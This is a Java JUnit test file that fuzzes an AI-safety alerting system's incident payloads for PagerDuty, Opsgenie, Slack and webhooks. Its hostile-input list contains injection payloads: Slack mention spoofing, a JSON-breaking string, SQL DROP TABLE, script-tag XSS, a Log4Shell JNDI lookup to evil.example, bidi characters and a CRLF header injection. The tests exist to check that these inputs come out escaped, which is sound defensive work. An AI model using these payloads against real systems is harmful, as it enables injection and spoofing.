package dev.vigil.alert.route;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.metrics.SafetyMetrics;
import dev.vigil.schema.AlertType;
import dev.vigil.schema.SafetyAlert;
import dev.vigil.schema.Severity;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.ByteBuffer;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.Flow;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * Producer-controlled strings in every field of an alert, sent to every incident tool: the
 * request is always valid HTTP, its body always parses as JSON, and nothing in it is active
 * markup (no Slack mention, link or date token that Vigil did not put there), a control or
 * invisible character, or longer than the tool allows.
 */
class IncidentPayloadsTest {
    private static final ObjectMapper STRICT = new ObjectMapper()
            .enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION)
            .enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS);
    private static final Instant T0 = Instant.parse("2026-03-01T10:00:00Z");
    private static final String RUNBOOK = "https://github.com/vigil-safety/vigil/blob/main/docs/runbooks/missed-referral.md";
    private static final URI TOOL = URI.create("http://127.0.0.1:9/hook");
    private static final int BODY_MAX = 64 * 1024;

    /** Strings a hostile producer would try. */
    static List<String> hostile() {
        final List<String> v = new ArrayList<>(List.of(
                "<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<@U024BE7LH>", "<#C024BE7LR>",
                "<!subteam^SAZ94GDB8|@team>", "<http://evil.example|click here>", "<https://evil.example>",
                "<mailto:a@evil.example|support>", "<!date^1392734382^{date_pretty}|Feb 18>", "x<!channel>y",
                "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "&", "<", ">", "<<!channel>>", "< !channel >",
                "http://evil.example/login", "www.evil.example", "#general", "@channel", "@here",
                "line1\nline2", "a\r\nb", "\n> quoted\n*bold* _it_ ~st~", "tab\there", "nul\u0000byte",
                "esc\u001b[31mred", "del\u007f", "c1\u0085next\u009b", "ls\u2028ps\u2029",
                "bidi\u202Egnp.exe", "\u202Atext\u202C", "\u2066iso\u2069", "rlm\u200F lrm\u200E alm\u061C",
                "zw\u200Bsp\uFEFFbom", "soft\u00ADhyphen", "tag\uDB40\uDC01\uDB40\uDC68chars", "non\uFFFEchar",
                "lone\uD800surrogate", "end\uDFFF", "emoji 😀👩‍💻 ok",
                "\"}],\"blocks\":[{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"<!channel>\"}}],\"x\":\"",
                "\\", "\\\"", "\\u003c!channel\\u003e", "'; DROP TABLE alerts; --", "</script><script>alert(1)</script>",
                "```code block```", "`", "a`b`c", "|", "<url|", "|Runbook>", "${jndi:ldap://evil.example/a}",
                "{{ $labels.x }}", "%s%n%x", ""));
        v.add("a".repeat(100_000));
        v.add("<".repeat(20_000));
        v.add("&".repeat(20_000));
        v.add("😀".repeat(5_000));
        v.add("e\u0301".repeat(3_000));
        v.add("<!channel>".repeat(2_000));
        v.add("\u202E".repeat(1_000) + "x");
        v.add("\n".repeat(1_000));
        return v;
    }

    /** The same alert with one field replaced. */
    private record Mutation(String field, UnaryOperator<SafetyAlert.Builder> apply) {
    }

    private static List<Mutation> mutations(final String v) {
        return List.of(
                new Mutation("subject", b -> b.setSubject(v).setSummary("Missed referral in conversation " + v)),
                new Mutation("summary", b -> b.setSummary(v)),
                new Mutation("dedup_key", b -> b.setDedupKey("missed-referral/conversation/" + v + "/turn-3")),
                new Mutation("subject_kind", b -> b.setSubjectKind(v)),
                new Mutation("alert_id", b -> b.setAlertId(v)),
                new Mutation("classifier_version", b -> b.setClassifierVersion(v)),
                new Mutation("evidence_value", b -> b.setEvidence(Map.of("model", v, "language", v))),
                new Mutation("evidence_key", b -> b.setEvidence(Map.of(v, "1"))),
                new Mutation("runbook_url", b -> b.setRunbookUrl(v)),
                new Mutation("runbook_url_suffix", b -> b.setRunbookUrl(RUNBOOK + "?q=" + v)));
    }

    private static SafetyAlert.Builder base() {
        final Map<String, String> evidence = new LinkedHashMap<>();
        evidence.put("crisis_level", "ACTIVE_IDEATION");
        evidence.put("model", "assistant-v2");
        return SafetyAlert.newBuilder()
                .setAlertId("3f1c0f0e-0000-3000-8000-000000000000")
                .setDedupKey("missed-referral/conversation/conv-1/turn-3")
                .setType(AlertType.MISSED_REFERRAL).setSeverity(Severity.CRITICAL).setRaisedAt(T0)
                .setSubjectKind("conversation").setSubject("conv-1")
                .setSummary("Missed referral in conversation conv-1")
                .setEvidence(evidence).setRunbookUrl(RUNBOOK).setClassifierVersion("2.0.0");
    }

    private static List<Destination> destinations() {
        return List.of(new PagerDutyDestination(TOOL, "pd-key", Severity.INFO, 10),
                new OpsgenieDestination(TOOL, "og-key", Severity.INFO, 10),
                new SlackDestination(TOOL, Severity.INFO, 1),
                new WebhookDestination(TOOL, "secret", Severity.INFO, 10));
    }

    @Test
    void shouldSendEveryHostileVariantOfEveryFieldAsValidInertJsonToEveryTool() throws Exception {
        int checked = 0;
        for (final String v : hostile()) {
            for (final Mutation m : mutations(v)) {
                final SafetyAlert alert = m.apply().apply(base()).build();
                for (final Destination d : destinations()) {
                    final String what = d.name() + " / " + m.field() + " = " + preview(v);
                    check(d, alert, what);
                    checked++;
                }
            }
        }
        assertTrue(checked > 2_500, "variants checked: " + checked);
    }

    @Test
    void shouldStayValidAndInertForRandomStringsOfHostileCharacters() throws Exception {
        final String alphabet = "<>&|!@#`*_~\"\\\n\r\t\u0000\u001b\u007f\u0085\u2028\u202E\u2066\u200B\uFEFF\uD83D\uDE00"
                + "\uD800\uDC00aZ09 :/.^{}?";
        final Random random = new Random(20260301L);
        for (int i = 0; i < 300; i++) {
            final int length = random.nextInt(i % 10 == 0 ? 6_000 : 60);
            final StringBuilder sb = new StringBuilder(length);
            for (int j = 0; j < length; j++) {
                sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            final String v = sb.toString();
            for (final Mutation m : mutations(v)) {
                final SafetyAlert alert = m.apply().apply(base()).build();
                for (final Destination d : destinations()) {
                    check(d, alert, d.name() + " / " + m.field() + " = random #" + i + " " + preview(v));
                }
            }
        }
    }

    @Test
    void shouldShowHostileTextEscapedRatherThanDropIt() throws Exception {
        final SafetyAlert alert = base().setSubject("<!channel>")
                .setSummary("Missed referral in conversation <!channel> & <http://evil.example|click>").build();
        final JsonNode slack = body(new SlackDestination(TOOL, Severity.INFO, 1), alert);
        final String text = slack.at("/blocks/0/text/text").asText();
        assertTrue(text.contains("&lt;!channel&gt; &amp; &lt;http://evil.example|click&gt;"), text);
        assertTrue(slack.at("/text").asText().contains("&lt;!channel&gt;"), slack.toString());
        assertTrue(text.contains("<" + RUNBOOK + "|Runbook>"), "Vigil's own link stays a link: " + text);
        assertTrue(slack.at("/blocks/0/text/verbatim").asBoolean(), "no automatic linking of bare URLs or names");
        assertFalse(slack.path("unfurl_links").asBoolean(true), "no preview fetched from a URL in the text");
        final JsonNode pd = body(new PagerDutyDestination(TOOL, "k", Severity.INFO, 10), alert);
        assertEquals("<!channel>", pd.at("/payload/custom_details/subject").asText(),
                "JSON tools get the value itself: JSON escaping is Jackson's");
    }

    @Test
    void shouldLeaveOrdinaryAlertsAsTheyWere() throws Exception {
        final SafetyAlert alert = base().build();
        final JsonNode pd = body(new PagerDutyDestination(TOOL, "k", Severity.INFO, 10), alert);
        assertEquals(alert.getDedupKey(), pd.get("dedup_key").asText());
        assertEquals(alert.getSummary(), pd.at("/payload/summary").asText());
        assertEquals(RUNBOOK, pd.at("/links/0/href").asText());
        assertEquals("assistant-v2", pd.at("/payload/custom_details/evidence/model").asText());
        final JsonNode og = body(new OpsgenieDestination(TOOL, "k", Severity.INFO, 10), alert);
        assertEquals(alert.getDedupKey(), og.get("alias").asText());
        final JsonNode slack = body(new SlackDestination(TOOL, Severity.INFO, 1), alert);
        assertEquals(":rotating_light: *CRITICAL MISSED_REFERRAL*: " + alert.getSummary() + "\n<" + RUNBOOK
                + "|Runbook> · dedup `" + alert.getDedupKey() + "`", slack.at("/blocks/0/text/text").asText());
        final HttpRequest hook = new WebhookDestination(TOOL, "s", Severity.INFO, 10).request(alert).build();
        assertEquals(alert.getDedupKey(), hook.headers().firstValue(WebhookDestination.IDEMPOTENCY_HEADER).orElseThrow());
    }

    @Test
    void shouldShortenLongOrUnusualDedupKeysToStableDistinctKeys() {
        final String prefix = "missed-referral/conversation/" + "x".repeat(400);
        final String a = AlertJson.dedupKey(base().setDedupKey(prefix + "/turn-1").build());
        final String b = AlertJson.dedupKey(base().setDedupKey(prefix + "/turn-2").build());
        assertNotEquals(a, b, "keys that differ past the cut stay distinct");
        assertEquals(a, AlertJson.dedupKey(base().setDedupKey(prefix + "/turn-1").build()), "and stable");
        assertTrue(a.length() <= AlertJson.DEDUP_KEY_MAX && a.startsWith("missed-referral/conversation/xxx"), a);
        final String unicode = AlertJson.dedupKey(base().setDedupKey("missed-referral/conversation/会話-1/turn-1").build());
        final String other = AlertJson.dedupKey(base().setDedupKey("missed-referral/conversation/会話-2/turn-1").build());
        assertNotEquals(unicode, other);
        assertTrue(unicode.chars().allMatch(c -> c >= 0x20 && c < 0x7F), unicode);
        final Set<String> many = new HashSet<>();
        for (int i = 0; i < 2_000; i++) {
            many.add(AlertJson.dedupKey(base().setDedupKey(prefix + i).build()));
        }
        assertEquals(2_000, many.size());
    }

    @Test
    void shouldDeadLetterRatherThanStopWhenARequestCannotBeBuilt() throws Exception {
        final SafetyMetrics metrics = new SafetyMetrics(new SimpleMeterRegistry());
        final Destination broken = new Destination() {
            @Override
            public String name() {
                return "broken";
            }

            @Override
            public URI endpoint() {
                return TOOL;
            }

            @Override
            public Severity minimumSeverity() {
                return Severity.INFO;
            }

            @Override
            public double ratePerSecond() {
                return 100;
            }

            @Override
            public HttpRequest.Builder request(final SafetyAlert alert) {
                return HttpRequest.newBuilder(TOOL).header("X-Key", "bad\r\nInjected: header");
            }
        };
        final DeliveryResult result = new AlertDeliverer(new RetryPolicy(3, Duration.ofMillis(1), Duration.ofMillis(2),
                Duration.ofSeconds(1), Duration.ofSeconds(1)), metrics).deliver(broken, base().build());
        assertFalse(result.delivered());
        assertEquals("unsendable", result.reason());
        assertEquals(1, result.attempts());
    }

    @Test
    void shouldDeliverHostileAlertsToRealReceiversOfEveryKind() throws Exception {
        final SafetyMetrics metrics = new SafetyMetrics(new SimpleMeterRegistry());
        final RetryPolicy fast = new RetryPolicy(2, Duration.ofMillis(10), Duration.ofMillis(20),
                Duration.ofSeconds(5), Duration.ofSeconds(1));
        try (IncidentReceiver r = new IncidentReceiver((k, n) -> IncidentReceiver.Answer.ok())) {
            final AlertDeliverer deliverer = new AlertDeliverer(fast, metrics);
            final List<Destination> tools = List.of(new PagerDutyDestination(r.uri("/pd"), "k", Severity.INFO, 1000),
                    new OpsgenieDestination(r.uri("/og"), "k", Severity.INFO, 1000),
                    new SlackDestination(r.uri("/slack"), Severity.INFO, 1000),
                    new WebhookDestination(r.uri("/hook"), "s", Severity.INFO, 1000));
            int i = 0;
            for (final String v : List.of("<!channel>", "会話\r\n\u202E", "\"}\\", "k".repeat(3_000), "lone\uD800")) {
                final SafetyAlert alert = base().setDedupKey("missed-referral/conversation/" + v + "/" + i++)
                        .setSubject(v).setSummary("Missed referral in conversation " + v).build();
                for (final Destination d : tools) {
                    assertTrue(deliverer.deliver(d, alert).delivered(), d.name() + " " + preview(v));
                }
            }
        }
    }

    // ---------------------------------------------------------------------------------------

    private static void check(final Destination d, final SafetyAlert alert, final String what) throws Exception {
        final HttpRequest request;
        try {
            request = d.request(alert).build();
        } catch (final RuntimeException e) {
            fail(what + ": no valid request: " + e);
            return;
        }
        request.headers().map().forEach((name, values) -> values.forEach(value ->
                assertTrue(value.chars().allMatch(c -> c >= 0x20 && c < 0x7F), what + ": header " + name + " " + value)));
        final byte[] raw = bytes(request);
        assertTrue(raw.length <= BODY_MAX, what + ": body of " + raw.length + " bytes");
        final String json = StandardCharsets.UTF_8.newDecoder().onMalformedInput(CodingErrorAction.REPORT)
                .onUnmappableCharacter(CodingErrorAction.REPORT).decode(ByteBuffer.wrap(raw)).toString();
        final JsonNode body;
        try {
            body = STRICT.readTree(json);
        } catch (final Exception e) {
            fail(what + ": body is not JSON: " + e.getMessage());
            return;
        }
        final boolean ownNewline = d instanceof SlackDestination || d instanceof OpsgenieDestination;
        forEachString(body, "", (path, s) -> inert(what + " at " + path, s,
                ownNewline && (path.equals("/blocks/0/text/text") || path.equals("/description")) ? 1 : 0));
        switch (d.name()) {
            case "pagerduty" -> {
                assertTrue(body.get("dedup_key").asText().length() <= 255, what + ": dedup_key");
                assertTrue(codePoints(body.at("/payload/summary").asText()) <= 1024, what + ": summary");
                for (final JsonNode link : body.get("links")) {
                    assertEquals(alert.getRunbookUrl(), link.get("href").asText(), what);
                    assertTrue(link.get("href").asText().matches("https?://[^\\s<>|\"]+"), what + ": link " + link);
                }
            }
            case "opsgenie" -> {
                assertTrue(codePoints(body.get("message").asText()) <= 130, what + ": message");
                assertTrue(body.get("alias").asText().length() <= 512, what + ": alias");
                assertTrue(codePoints(body.get("description").asText()) <= 15_000, what + ": description");
            }
            case "slack" -> slack(body, what);
            case "webhook" -> assertTrue(request.headers().firstValue(WebhookDestination.IDEMPOTENCY_HEADER)
                    .orElseThrow().length() <= 255, what);
            default -> fail(d.name());
        }
        if (body.has("custom_details") || body.has("alert_id")) {
            final JsonNode details = body.has("alert_id") ? body : body.get("custom_details");
            assertTrue(codePoints(details.get("subject").asText()) <= AlertJson.SUBJECT_MAX, what);
            assertTrue(details.get("evidence").size() <= AlertJson.EVIDENCE_ENTRIES + 1, what);
        }
    }

    private static final Pattern LINK = Pattern.compile("<([^<>]*)>");
    /** Vigil's one link: a plain http(s) URL labelled Runbook. */
    private static final Pattern RUNBOOK_LINK = Pattern.compile("https?://[^|<>\\s`\"]+\\|Runbook");
    private static final Pattern ENTITY = Pattern.compile("&(?!(amp|lt|gt);)");

    /** Slack: the only {@code <...>} sequence is Vigil's runbook link; every {@code &} starts an entity. */
    private static void slack(final JsonNode body, final String what) {
        final String text = body.at("/blocks/0/text/text").asText();
        final String fallback = body.get("text").asText();
        assertTrue(text.length() <= 3000 && fallback.length() <= 3000, what + ": text length " + text.length());
        assertTrue(body.at("/blocks/0/text/verbatim").asBoolean(), what + ": verbatim");
        assertEquals(1, body.get("blocks").size(), what);
        for (final String s : List.of(text, fallback)) {
            assertFalse(ENTITY.matcher(s).find(), what + ": a bare & in " + preview(s));
            final Matcher m = LINK.matcher(s);
            int links = 0;
            while (m.find()) {
                links++;
                final String inner = m.group(1);
                assertTrue(RUNBOOK_LINK.matcher(inner).matches(), what + ": active markup <" + inner + ">");
            }
            assertTrue(links <= (s == text ? 1 : 0), what + ": " + links + " links");
            assertEquals(links * 2, s.chars().filter(c -> c == '<' || c == '>').count(), what + ": stray < or >");
        }
        // The dedup key's code span holds: exactly two backticks.
        assertEquals(2, text.chars().filter(c -> c == '`').count(), what + ": code span broken");
    }

    /** No control character (beyond the layout's own newlines), invisible character or lone surrogate. */
    private static void inert(final String what, final String s, final int allowedNewlines) {
        int newlines = 0;
        for (int i = 0; i < s.length(); ) {
            final int cp = s.codePointAt(i);
            i += Character.charCount(cp);
            if (cp == '\n') {
                newlines++;
                continue;
            }
            assertFalse(cp < 0x20 || (cp >= 0x7F && cp <= 0x9F) || cp == 0x2028 || cp == 0x2029,
                    what + ": control U+" + Integer.toHexString(cp));
            assertFalse(cp <= 0xFFFF && Character.isSurrogate((char) cp), what + ": lone surrogate");
            assertFalse((cp >= 0x202A && cp <= 0x202E) || (cp >= 0x2066 && cp <= 0x2069) || cp == 0x200E
                    || cp == 0x200F || cp == 0x061C || cp == 0x200B || cp == 0xFEFF || cp == 0x00AD
                    || (cp >= 0xE0000 && cp <= 0xE007F) || (cp & 0xFFFE) == 0xFFFE,
                    what + ": invisible U+" + Integer.toHexString(cp));
        }
        assertTrue(newlines <= allowedNewlines, what + ": " + newlines + " newlines");
    }

    private interface StringVisitor {
        void visit(String path, String value);
    }

    private static void forEachString(final JsonNode node, final String path, final StringVisitor visitor) {
        if (node.isTextual()) {
            visitor.visit(path, node.asText());
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                forEachString(node.get(i), path + "/" + i, visitor);
            }
        } else if (node.isObject()) {
            final Iterator<Map.Entry<String, JsonNode>> fields = node.fields();
            while (fields.hasNext()) {
                final Map.Entry<String, JsonNode> f = fields.next();
                visitor.visit(path + "/#key", f.getKey());
                forEachString(f.getValue(), path + "/" + f.getKey(), visitor);
            }
        }
    }

    private static JsonNode body(final Destination d, final SafetyAlert a) throws Exception {
        return STRICT.readTree(bytes(d.request(a).build()));
    }

    private static int codePoints(final String s) {
        return s.codePointCount(0, s.length());
    }

    private static String preview(final String s) {
        final String shown = s.length() > 40 ? s.substring(0, 40) + "...(" + s.length() + ")" : s;
        final StringBuilder sb = new StringBuilder();
        shown.chars().forEach(c -> sb.append(c < 0x20 || c > 0x7E ? String.format("\\u%04x", c) : String.valueOf((char) c)));
        return sb.toString();
    }

    /** The body a request would send. */
    static byte[] bytes(final HttpRequest request) throws Exception {
        final HttpRequest.BodyPublisher publisher = request.bodyPublisher().orElseThrow();
        final CompletableFuture<byte[]> done = new CompletableFuture<>();
        publisher.subscribe(new Flow.Subscriber<>() {
            private final java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();

            @Override
            public void onSubscribe(final Flow.Subscription subscription) {
                subscription.request(Long.MAX_VALUE);
            }

            @Override
            public void onNext(final ByteBuffer item) {
                final byte[] chunk = new byte[item.remaining()];
                item.get(chunk);
                out.write(chunk, 0, chunk.length);
            }

            @Override
            public void onError(final Throwable throwable) {
                done.completeExceptionally(throwable);
            }

            @Override
            public void onComplete() {
                done.complete(out.toByteArray());
            }
        });
        return done.get();
    }
}
